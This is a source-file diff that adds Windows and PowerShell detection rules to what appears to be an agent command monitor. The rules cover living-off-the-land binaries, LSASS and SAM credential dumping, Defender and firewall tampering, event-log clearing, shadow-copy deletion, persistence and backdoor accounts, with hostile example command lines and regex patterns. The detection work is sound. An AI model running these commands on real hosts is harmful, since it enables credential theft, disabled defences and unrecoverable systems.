@@ -1,0 +1,230 @@
+/**
+ * Windows and PowerShell rules, as idiom tables (./idioms.ts): living-off-the-land binaries
+ * (signed system programs that download or run code; the catalogue is the LOLBAS project,
+ * https://lolbas-project.github.io/), credential dumping, tampering with Defender, the firewall and
+ * the event logs, destroying shadow copies, autostart persistence and account manipulation. The
+ * ATT&CK techniques are those of https://attack.mitre.org/techniques/enterprise/. A command line
+ * of a `cmd`/`powershell` tool is parsed as shell too (quoting is close enough for these forms),
+ * and each idiom is also tried on the command as written.
+ */
+import type { Rule } from '../rule.js';
+import { idiomRule } from './idioms.js';
+
+const X = String.raw`(?:\.exe)?`;
+/** A remote location: a URL or a UNC path (`\\host\share`, backslashes possibly removed by the shell reading). */
+const REMOTE = String.raw`(?:https?:|ftp:|(?:^|[\s="'])(?:\\\\[\w.-]+\\|//[\w.-]+/))`;
+
+/** Signed Windows binaries that proxy execution of a file they are given (LOLBAS "Execute" and
+ * "AWL bypass" entries), by name; with a script, library or program argument they run it. */
+const LOLBINS = ['control', 'verclsid', 'xwizard', 'atbroker', 'ie4uinit', 'infdefaultinstall', 'register-cimprovider', 'scriptrunner', 'tttracer', 'tracker', 'coregen', 'mftrace', 'rcsi', 'csi', 'fsi', 'fsianycpu', 'vsjitdebugger', 'dnx', 'msxsl', 'cdb', 'dnscmd', 'appvlp', 'wsreset', 'conhost', 'explorer', 'msdeploy', 'sqlps', 'sqltoolsps', 'pcwrun', 'runscripthelper', 'pubprn', 'agentexecutor', 'diskshadow', 'dxcap', 'ilasm', 'jsc', 'vbc', 'microsoft.workflow.compiler', 'msohtmed', 'mspub', 'ieexec', 'presentationhost', 'wuauclt', 'workfolders', 'ttdinject', 'stordiag', 'wlrmdr', 'setres', 'extrac32', 'makecab', 'diantz', 'esentutl', 'certoc', 'cmdl32', 'datasvcutil', 'iediagcmd', 'imewdbld', 'ldifde', 'mpcmdrun', 'msconfig', 'offlinescannershell', 'provlaunch', 'rasautou', 'regini', 'runonce', 'unregmp2', 'vsiisexelauncher', 'wab', 'wfc', 'wmic', 'wscript', 'cscript', 'mshta', 'msiexec', 'odbcconf', 'cmstp', 'forfiles', 'pcalua', 'installutil', 'regasm', 'regsvcs', 'regsvr32', 'rundll32', 'msbuild', 'bitsadmin', 'certutil', 'certreq', 'mavinject', 'hh', 'ntdsutil', 'winrm', 'pester', 'launch-vsdevshell', 'csc', 'gfxdownloadwrapper', 'psr', 'squirrel', 'update', 'fltmc', 'msdt', 'winget', 'appinstaller', 'devtoolslauncher', 'syncappvpublishingserver', 'manage-bde', 'cl_invocation', 'cl_mutexverifiers', 'cl_loadassembly', 'slmgr', 'te', 'remote', 'dump64', 'dumpminitool', 'sqldumper', 'rdrleakdiag', 'createdump', 'adplus', 'procdump', 'pktmon', 'mmc', 'openconsole', 'pixtool', 'xbootmgrsleep', 'bginfo', 'vshadow', 'visualuiaverifynative', 'aspnet_compiler', 'ntsd', 'dotnet', 'vstest.console', 'testwindowremoteagent', 'winword', 'excel', 'powerpnt', 'teams', 'msedge', 'msedgewebview2', 'mstsc', 'logger', 'defaultpack', 'acccheckconsole', 'winfile', 'customshellhost', 'wfmformat', 'setupugc', 'pester', 'msconfig', 'wsb', 'stordiag', 'scriptrunner', 'launch-vsdevshell', 'tttracer', 'remote', 'dump64', 'ilasm', 'rdrleakdiag', 'wt', 'msedge_proxy', 'protocolhandler', 'excel', 'mshta', 'pcwrun', 'runexehelper', 'devinit', 'devtoolslauncher', 'dotnet', 'fsutil', 'pnputil', 'mpiexec', 'vsls-agent', 'vstest', 'xsd', 'bcp', 'sqlcmd', 'ntdsutil'];
+
+export const WINDOWS_RULES: Rule[] = [
+  idiomRule({
+    id: 'windows-lolbin-download',
+    name: 'Windows system binary fetching remote code',
+    category: 'remote-exec',
+    action: 'block',
+    attack: 'T1105',
+    description: 'A Windows system binary used to download or run remote content: certutil -urlcache, bitsadmin /transfer, mshta/regsvr32/msiexec/rundll32/hh pointed at a URL or share, Start-BitsTransfer.',
+    help: 'Signed system binaries are used to bring in payloads past allow-lists. Check the URL and what is done with the file.',
+    examples: {
+      match: ['certutil -urlcache -split -f http://x.example/p.exe p.exe', 'mshta http://x.example/a.hta', 'regsvr32 /s /n /u /i:http://x.example/f.sct scrobj.dll'],
+      not_match: ['certutil -hashfile setup.exe SHA256', 'msiexec /i .\\setup.msi /qn', 'bitsadmin /list'],
+    },
+    idioms: [
+      { re: new RegExp(String.raw`\bcertutil${X}\b.*[-/](?:urlcache|verifyctl|URL)\b`, 'i') },
+      { re: new RegExp(String.raw`\bbitsadmin${X}\b.*/(?:transfer|addfile|SetNotifyCmdLine)\b`, 'i') },
+      { re: new RegExp(String.raw`\b(?:mshta|hh|msiexec|cmstp|presentationhost|ieexec|wscript|cscript|regsvr32|odbcconf|esentutl|extrac32|replace|xcopy|makecab|diantz|desktopimgdownldr|certreq|finger|msdt|winget|ie4uinit|appinstaller|excel|winword|powerpnt|mspub|squirrel|devtoolslauncher|msxsl|control|installutil|regasm|regsvcs|msbuild|rundll32|schtasks|wmic|forfiles|pcalua|scriptrunner|syncappvpublishingserver|findstr|mpcmdrun|ftp|msedge_proxy|pcwrun|wsl)${X}\b[^|;&\n]*${REMOTE}`, 'i') },
+      { re: /\bmshta(?:\.exe)?\s+["']?(?:javascript|vbscript):/i },
+      { re: /\bregsvr32(?:\.exe)?\b.*\/i:.*\bscrobj(?:\.dll)?\b/i },
+      { re: /\bStart-BitsTransfer\b.*-Source\s+["']?https?:/i },
+      { re: /\bdesktopimgdownldr(?:\.exe)?\b.*\/lockscreenurl:/i },
+      // a file copied or expanded from a share, or a program run from one
+      { re: /\b(?:type|copy|xcopy|robocopy|expand|print|replace|esentutl|tar|printbrm|findstr|extrac32|makecab|cmd)(?:\.exe)?\b[^|;&\n]*(?:^|[\s:])\\\\[\w.-]+\\[^\s]*\.\w+/i },
+      { re: /^["']?\\\\[\w.-]+\\[^\s"']+\.(?:exe|dll|bat|cmd|ps1|vbs|js|hta|msi)\b/i },
+      { re: /\b(?:ngen|imewdbld|ecmangen|msoxmled|msaccess|outlook|visio|winproj|configsecuritypolicy|vslaunchbrowser|gfxdownloadwrapper|mpcmdrun)(?:\.exe)?\b[^|;&\n]*(?:https?:|-DownloadFile)/i },
+    ],
+  }),
+  idiomRule({
+    id: 'windows-lolbin-exec',
+    name: 'Windows system binary proxying code execution',
+    category: 'execution',
+    action: 'record',
+    attack: 'T1218',
+    description: 'Code run through a signed Windows binary (rundll32 javascript:/ShellExec/comsvcs, regsvr32 /i, msbuild of a project, installutil/regasm /U, cmstp, odbcconf, mavinject, forfiles /c, pcalua -a, wmic process call create, wmic /format:, SyncAppvPublishingServer, …).',
+    help: 'These binaries run arbitrary code while looking like system activity (LOLBAS). Check what file or script they are given.',
+    examples: {
+      match: ['rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)', 'wmic process call create calc.exe', 'forfiles /p c:\\windows\\system32 /m notepad.exe /c calc.exe'],
+      not_match: ['wmic os get caption', 'rundll32 --help', 'forfiles /p c:\\logs /m *.log /d -30 /c "cmd /c echo @file"'],
+    },
+    idioms: [
+      { re: /\brundll32(?:\.exe)?\b.*(?:javascript:|vbscript:|mshtml|url\.dll|zipfldr|ieframe|shdocvw|advpack|setupapi|pcwutl|syssetup|shell32(?:\.dll)?\s*,\s*(?:ShellExec_RunDLL|Control_RunDLL)|dfshim|ieadvpack|photoviewer|desk\.cpl|shimgvw|scrobj|dllregisterserver|#\d+|\.(?:txt|log|dat|tmp|jpg|png|cpl|ocx)\b)/i },
+      { re: /\bregsvr32(?:\.exe)?\b.*\/(?:i|u|s|n)\b/i },
+      { re: /\bmsbuild(?:\.exe)?\b.*\.(?:xml|csproj|proj|targets|txt)\b/i },
+      { re: /\b(?:installutil|regasm|regsvcs)(?:\.exe)?\b.*\/(?:u|logfile=)/i },
+      { re: /\bcmstp(?:\.exe)?\b.*\/(?:s|ni|au)\b/i },
+      { re: /\bodbcconf(?:\.exe)?\b.*(?:\/a|-a|\/f|-f)\b/i },
+      { re: /\bmavinject(?:32|64)?(?:\.exe)?\b.*\/injectrunning\b/i },
+      { re: /\bforfiles(?:\.exe)?\b.*\/c\s+["']?[^"'\s]*\.(?:exe|bat|ps1|vbs|js)\b/i },
+      { re: /\bforfiles(?:\.exe)?\b.*\/m\s+\S+\.exe\s+\/c\b/i },
+      { re: /\bpcalua(?:\.exe)?\b.*-a\b/i },
+      { re: /\bwmic(?:\.exe)?\b.*\bprocess\b.*\bcall\b.*\bcreate\b/i },
+      { re: /\bwmic(?:\.exe)?\b.*\/format:["']?(?:https?:|\\\\|[^\s"']*\.xsl)/i },
+      { re: /\bSyncAppvPublishingServer(?:\.exe|\.vbs)?\b/i },
+      { re: /--(?:gpu-launcher|renderer-cmd-prefix|utility-cmd-prefix|browser-subprocess-path)=|\bPKCS11Provider=|\b(?:windbg|cdb|ntsd)(?:\.exe)?\s+(?:-\w+\s+)*-g\s+\S+\.exe|\.shell\s+\S|\/launch:\S|-(?:preTraceCmd|callBack)\s+\S|-LoadAndRunDiagScript(?:NoCab)?\b|\/AlternateShellStartup\b|\bmofcomp(?:\.exe)?\s+\S+\.mof\b/i },
+      { names: LOLBINS, re: /\.(?:dll|sct|hta|inf|cpl|xsl|csproj|jse?|vbe?|wsf|ps1|bat|cmd|scr|ocx|appx|msi)\b|\bcalc(?:\.exe)?\b|\bpayload\b|\{[0-9A-Fa-f]{8}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{12}\}|\b(?:RunWizard|-BaseSettings)\b|\/C:/i },
+      { names: ['atbroker'], re: /\/start\s+\S/i },
+      { names: ['logger'], re: /\bRUNW? ["']?\S+\.exe/ },
+    ],
+  }),
+  idiomRule({
+    id: 'windows-credential-dump',
+    name: 'Windows credential dump',
+    category: 'credential-access',
+    action: 'block',
+    attack: 'T1003',
+    description: 'Dumping LSASS memory (procdump, comsvcs MiniDump), the SAM/SYSTEM/SECURITY hives or NTDS.dit (reg save, shadow copies, ntdsutil ifm), or running a credential dumper (mimikatz, pypykatz, gsecdump, lazagne, secretsdump, DSInternals).',
+    help: "Extracts password hashes and tickets of every account on the host or domain. Treat the host's credentials as compromised.",
+    examples: {
+      match: ['procdump.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\l.dmp', 'reg save HKLM\\sam %temp%\\sam', 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 672 C:\\t\\l.dmp full'],
+      not_match: ['reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion', 'procdump -ma myapp.exe app.dmp', 'reg save HKCU\\Software\\MyApp myapp.hiv'],
+    },
+    idioms: [
+      { re: /\b(?:procdump\w*|sqldumper|createdump|rdrleakdiag|dumpert|nanodump|minidump\w*|-ma)\b.*\blsass\b|\blsass\w*\.dmp\b|\bGet-Process\s+lsass\b.*\b(?:dump|Minidump)/i },
+      { re: /\bcomsvcs(?:\.dll)?\b.*\bminidump\b|\bminidump\b.*\bcomsvcs\b/i },
+      { re: /\breg(?:\.exe)?\s+(?:save|export|copy)\s+["']?(?:HKLM|HKEY_LOCAL_MACHINE)\\?\\?(?:sam|system|security)\b/i },
+      { re: /\bntdsutil(?:\.exe)?\b.*\b(?:ifm|ac i ntds|snapshot)\b/i },
+      { re: /\bactivate\s+instance\s+ntds\b|\b(?:tttracer|dump64)(?:\.exe)?\b.*(?:-dumpFull|\.dmp\b|\s\d+\s)|\brpcping(?:\.exe)?\b.*[-/]u\s+NTLM\b|\bntds\.dit\b|HarddiskVolumeShadowCopy\d*\\?\\?(?:windows\\?\\?)?(?:ntds|system32\\?\\?config)/i },
+      { re: /\b(?:mimikatz|sekurlsa|lsadump|kerberos::|dpapi::|pypykatz|gsecdump|lazagne|secretsdump|pwdump|fgdump|nanodump|handlekatz|safetykatz|Invoke-Mimikatz|Out-Minidump|Get-ADReplAccount|Get-ADDBAccount|Invoke-Kerberoast|Rubeus|kerberoast|Get-GPPPassword|Invoke-DCSync|Get-LSASecret|Get-VaultCredential|Invoke-PowerDump|NPPSpy|wce(?:\.exe)?\s+-[wl])\b/i },
+      { re: /\bvssadmin(?:\.exe)?\s+create\s+shadow\b/i },
+      { re: /\b(?:vaultcmd(?:\.exe)?\s+\/listcreds|rdrleakdiag|createdump(?:\.exe)?\s+-f|sqldumper)\b/i },
+      { re: /\breg(?:\.exe)?\s+query\b.*\/f\s+["']?pass(?:word)?\b|\bfindstr(?:\.exe)?\b.*\/s?i\b.*\bpass(?:word)?\b|\\Panther\\+Unattend|\bunattend\.xml\b|\bSimonTatham\\?\\?PuTTY\\?\\?Sessions\b/i },
+    ],
+  }),
+  idiomRule({
+    id: 'windows-defense-tamper',
+    name: 'Windows defences disabled',
+    category: 'defense-evasion',
+    action: 'block',
+    attack: 'T1562.001',
+    description: 'Switching off or blinding Defender (Set-MpPreference -Disable…, exclusions, DisableAntiSpyware, MpCmdRun -RemoveDefinitions), the firewall (netsh advfirewall … off, Set-NetFirewallProfile -Enabled False), auditing (auditpol /clear), AMSI, or stopping security services.',
+    help: 'Removes the protections that would notice the next step. Check why the agent touched security settings.',
+    examples: {
+      match: ['Set-MpPreference -DisableRealtimeMonitoring $true', 'netsh advfirewall set allprofiles state off', 'Add-MpPreference -ExclusionPath C:\\Users\\Public'],
+      not_match: ['Get-MpPreference', 'netsh advfirewall show allprofiles', 'netsh interface ip show config'],
+    },
+    idioms: [
+      { re: /\bSet-MpPreference\b.*-(?:Disable\w*|ExclusionPath|ExclusionProcess|ExclusionExtension|SubmitSamplesConsent|MAPSReporting|PUAProtection|EnableControlledFolderAccess\s+Disabled)/i },
+      { re: /\bAdd-MpPreference\b.*-Exclusion/i },
+      { re: /\bDisable(?:AntiSpyware|AntiVirus|RealtimeMonitoring|BehaviorMonitoring|IOAVProtection|ScriptScanning|OnAccessProtection|BlockAtFirstSeen)\b/i },
+      { re: /\bMpCmdRun(?:\.exe)?\b.*-RemoveDefinitions\b/i },
+      { re: /\bnetsh(?:\.exe)?\b.*\b(?:advfirewall|firewall)\b.*\b(?:state\s+off|opmode\s+disable|mode=disable|reset|delete\s+rule|add\s+rule)\b/i },
+      { re: /\bSet-NetFirewallProfile\b.*-Enabled\s+["']?(?:False|0)\b|\bNew-NetFirewallRule\b.*-Action\s+Allow\b/i },
+      { re: /\bauditpol(?:\.exe)?\b.*\/(?:clear|remove)\b|\bauditpol(?:\.exe)?\b.*\/success:disable\b/i },
+      { re: /\b(?:sc(?:\.exe)?|Stop-Service|Set-Service|net(?:\.exe)?\s+stop)\b.*\b(?:WinDefend|Sense|WdNisSvc|WdBoot|wscsvc|MpsSvc|SecurityHealthService|Sysmon\d*|EventLog|Windefend)\b/i },
+      { re: /\bUninstall-WindowsFeature\b.*Defender|\bfltmc(?:\.exe)?\s+unload\b|\bAmsiUtils\b|\bamsiInitFailed\b|\bamsi\.dll\b/i },
+      { re: /\b(?:reg(?:\.exe)?\s+add|Set-ItemProperty|New-ItemProperty)\b.*\\(?:Windows Defender|Policies\\Microsoft\\Windows Defender|WinDefend|Windows\\System\\?\\?Audit|Policies\\?\\?System\\?\\?Audit|EnableLUA|ConsentPromptBehaviorAdmin|EnableScriptBlockLogging|Lsa\\?\\?DisableRestrictedAdmin)/i },
+      { re: /\bbcdedit(?:\.exe)?\b.*\b(?:testsigning\s+on|nointegritychecks\s+on|debug\s+on|disable_integrity_checks|safeboot)\b/i },
+      { re: /\bicacls(?:\.exe)?\b.*\/grant\s+["']?(?:Everyone|\*S-1-1-0|Users)["']?:\(?[FM]\)?|\btakeown(?:\.exe)?\b.*\/f\b/i },
+      { re: /-(?:ExecutionPolicy|ep|exec)\s+["']?(?:Bypass|Unrestricted)\b.*\b(?:-(?:e|enc|EncodedCommand)\b|-w\s+hidden|-WindowStyle\s+Hidden|iex|Invoke-Expression|DownloadString)/i },
+    ],
+  }),
+  idiomRule({
+    id: 'windows-ads',
+    name: 'Alternate data stream used',
+    category: 'defense-evasion',
+    action: 'record',
+    attack: 'T1564.004',
+    description: 'Writing to, reading from or running an NTFS alternate data stream (`file.exe:hidden.bat`, `payload.txt:evil.exe`, `tar -cf x.exe:ads`): content hidden behind an ordinary file.',
+    help: 'Data in a stream does not show in directory listings or file sizes. Check what is hidden there.',
+    examples: {
+      match: ['type payload.exe > C:\\Users\\Public\\notes.txt:evil.exe', 'findstr /V /L X C:\\x.exe > C:\\y.txt:file.exe', 'cmd.exe - < notes.txt:run.bat'],
+      not_match: ['docker run -v data.txt:/data.txt alpine', 'scp report.txt user@host:report.txt'],
+    },
+    idioms: [{ re: /[\w-]\.(?:exe|dll|txt|jpg|png|log|ini|cab|zip|dat|doc|bin)\s*:\s*[\w-]+\.(?:exe|bat|cmd|ps1|reg|zip|js|vbs|dll|txt|hta|cab)\b|\.\w{2,4}:ads\b/i }],
+  }),
+  idiomRule({
+    id: 'windows-log-clear',
+    name: 'Windows event logs cleared',
+    category: 'defense-evasion',
+    action: 'block',
+    attack: 'T1070.001',
+    description: 'Clearing or disabling Windows event logs or the USN journal: wevtutil cl / sl /e:false, Clear-EventLog, Remove-EventLog, Limit-EventLog, fsutil usn deletejournal, deleting .evtx files.',
+    help: 'Destroys the record of what happened on the host.',
+    examples: {
+      match: ['wevtutil cl Security', 'Clear-EventLog -LogName Application, System', 'fsutil usn deletejournal /D C:'],
+      not_match: ['wevtutil qe System /c:5', 'Get-EventLog -LogName System -Newest 10', 'fsutil fsinfo drives'],
+    },
+    idioms: [
+      { re: /\bwevtutil(?:\.exe)?\s+(?:cl|clear-log|sl\b.*\/e:false)\b/i },
+      { re: /\b(?:Clear-EventLog|Remove-EventLog|Limit-EventLog)\b|\.Clear\(\)\s*.*EventLog|EventLog\w*\.Clear\(/i },
+      { re: /\bfsutil(?:\.exe)?\s+usn\s+deletejournal\b/i },
+      { re: /\b(?:del|erase|Remove-Item|rm)\b.*\.evtx\b/i },
+    ],
+  }),
+  idiomRule({
+    id: 'windows-recovery-destroy',
+    name: 'Windows backups or recovery destroyed',
+    category: 'destructive-fs',
+    action: 'block',
+    attack: 'T1490',
+    description: 'Deleting shadow copies or backups, or disabling recovery: vssadmin delete|resize shadows, wmic shadowcopy delete, Win32_ShadowCopy Delete, wbadmin delete, bcdedit recoveryenabled no / bootstatuspolicy, diskshadow delete shadows, cipher /w.',
+    help: 'What ransomware does first: removes every way back. Nothing an agent task needs.',
+    examples: {
+      match: ['vssadmin.exe delete shadows /all /quiet', 'wmic shadowcopy delete', 'bcdedit /set {default} recoveryenabled no'],
+      not_match: ['vssadmin list shadows', 'wbadmin get versions', 'bcdedit /enum'],
+    },
+    idioms: [
+      { re: /\bvssadmin(?:\.exe)?\s+(?:delete|resize)\s+shadow/i },
+      { re: /\bwmic(?:\.exe)?\b.*\bshadowcopy\b.*\bdelete\b|Win32_ShadowCopy\b.*\.?Delete|Get-CimInstance\b.*Win32_ShadowCopy\b.*Remove-CimInstance/i },
+      { re: /\bwbadmin(?:\.exe)?\s+delete\b/i },
+      { re: /\btmutil\s+(?:disable|delete|deletelocalsnapshots|thinlocalsnapshots)\b|SystemRestore\b.*\bDisable(?:Config|SR)\b|\bDisable-ComputerRestore\b/i },
+      { re: /\bbcdedit(?:\.exe)?\b.*\b(?:recoveryenabled\s+(?:no|off)|bootstatuspolicy\s+ignoreallfailures)\b/i },
+      { re: /\bdiskshadow(?:\.exe)?\b.*\bdelete\s+shadows\b|\bcipher(?:\.exe)?\s+\/w:/i },
+      { re: /\b(?:rd|rmdir)\s+\/s\s+\/q\s+["']?[A-Za-z]:\\?["']?(?:\s|$)|\bdel\s+\/[sfq](?:\s+\/[sfq])*\s+["']?[A-Za-z]:\\\*?/i },
+      { re: /\bRemove-Item\b.*-Recurse\b.*["']?[A-Za-z]:\\?\\?(?:\*|Windows|Users)?["']?(?:\s|$)/i },
+    ],
+  }),
+  idiomRule({
+    id: 'windows-autostart',
+    name: 'Windows autostart persistence',
+    category: 'persistence',
+    action: 'block',
+    attack: 'T1547.001',
+    description: 'Something set to run at logon, boot or on an event: Run/RunOnce/Winlogon/IFEO/AppInit registry values, scheduled tasks (schtasks /create, Register-ScheduledTask), services (sc create, New-Service), the Startup folder, WMI event subscriptions, BITS notify commands, netsh helpers.',
+    help: 'Starts a program after the session ends. Review what is registered.',
+    examples: {
+      match: ['reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d C:\\x.exe', 'schtasks /create /tn upd /tr C:\\x.exe /sc onlogon', 'sc create evil binpath= C:\\x.exe start= auto'],
+      not_match: ['schtasks /query /fo LIST', 'reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', 'sc query WinDefend'],
+    },
+    idioms: [
+      { re: /\b(?:reg(?:\.exe)?\s+(?:add|import)|New-ItemProperty|Set-ItemProperty|New-Item|Set-Item)\b.*\\(?:CurrentVersion\\?\\?(?:Run|RunOnce|RunServices|RunOnceEx|Policies\\?\\?Explorer\\?\\?Run|Explorer\\?\\?(?:User )?Shell Folders)|Winlogon|Image File Execution Options|AppInit_DLLs|AppCertDlls|Environment.*UserInitMprLogonScript|Control\\?\\?Session Manager|Command Processor|Office test|NetSh|Print\\?\\?Monitors|Lsa\\?\\?(?:Security|Authentication|Notification) Packages|Services\\?\\?\w+\\?\\?Parameters|ms-settings\\?\\?shell|mscfile\\?\\?shell|exefile\\?\\?shell|Classes\\?\\?CLSID)/i },
+      { re: /\bschtasks(?:\.exe)?\s+\/(?:create|change)\b|\b(?:Register-ScheduledTask|New-ScheduledTask(?:Action|Trigger)?|Set-ScheduledTask)\b/i },
+      { re: /\bsc(?:\.exe)?\s+(?:\\\\\S+\s+)?(?:create|config)\s+\S+.*\bbinpath=|\bNew-Service\b|\bsc(?:\.exe)?\s+(?:\\\\\S+\s+)?create\b/i },
+      { re: /\\(?:Start Menu\\?\\?Programs\\?\\?Startup|StartUp)\\|shell:startup/i },
+      { re: /__EventFilter|CommandLineEventConsumer|ActiveScriptEventConsumer|__FilterToConsumerBinding|Set-WmiInstance\b.*(?:__EventFilter|Consumer)|Register-WmiEvent|Register-CimIndicationEvent/i },
+      { re: /\bWin32_Service\b.*\bCreate\b|\binvoke\s+Create\s+wmicimv2\/Win32_Service\b|\bnetsh(?:\.exe)?\s+add\s+helper\b|\bat(?:\.exe)?\s+\d{1,2}:\d{2}\b/i },
+      { re: /\b(?:Add-Content|Set-Content|Out-File)\b.*\$profile\b|\b(?:assoc|ftype)\s+\.?\w+=|\bappcmd(?:\.exe)?\s+install\s+module\b|\bNew-WebGlobalModule\b|\bInstall-TransportAgent\b|\bsdbinst(?:\.exe)?\b|\\apppatch\\+Custom\\|Active Setup\\+Installed Components|\\Services\\+NTDS\b.*LsaDbExtPt/i },
+    ],
+  }),
+  idiomRule({
+    id: 'windows-account-admin',
+    name: 'Windows account created or made admin',
+    category: 'privilege',
+    action: 'block',
+    attack: 'T1136.001',
+    description: 'A local or domain account created, enabled or added to an administrative group (net user /add, net localgroup administrators … /add, New-LocalUser, Add-LocalGroupMember, New-ADUser, Add-ADGroupMember, dsadd), or a UAC bypass through an auto-elevating binary (fodhelper, eventvwr, sdclt, computerdefaults with a hijacked shell key).',
+    help: 'Gives someone a lasting way in with administrative rights.',
+    examples: {
+      match: ['net user backdoor P@ss1 /add', 'net localgroup administrators backdoor /add', 'Add-LocalGroupMember -Group Administrators -Member x'],
+      not_match: ['net user', 'net localgroup administrators', 'Get-LocalUser'],
+    },
+    idioms: [
+      { re: /\bnet1?(?:\.exe)?\s+user\b.*\/(?:add|active:yes)\b/i },
+      { re: /\bnet1?(?:\.exe)?\s+(?:localgroup|group)\b.*\/add\b/i },
+      { re: /\b(?:New-LocalUser|Add-LocalGroupMember|New-ADUser|Add-ADGroupMember|Enable-LocalUser|Enable-ADAccount|Set-ADAccountPassword|Add-MailboxPermission|Add-AzureADDirectoryRoleMember|New-AzureADUser|Add-MsolRoleMember|New-AzRoleAssignment)\b/i },
+      { re: /\bdsadd(?:\.exe)?\s+user\b/i },
+      { re: /\b(?:fodhelper|eventvwr|sdclt|computerdefaults|slui|wsreset|changepk)(?:\.exe)?\b/i, names: ['fodhelper', 'eventvwr', 'sdclt', 'computerdefaults', 'slui', 'wsreset', 'changepk', 'start-process', 'start', 'cmd'] },
+    ],
+  }),
+];
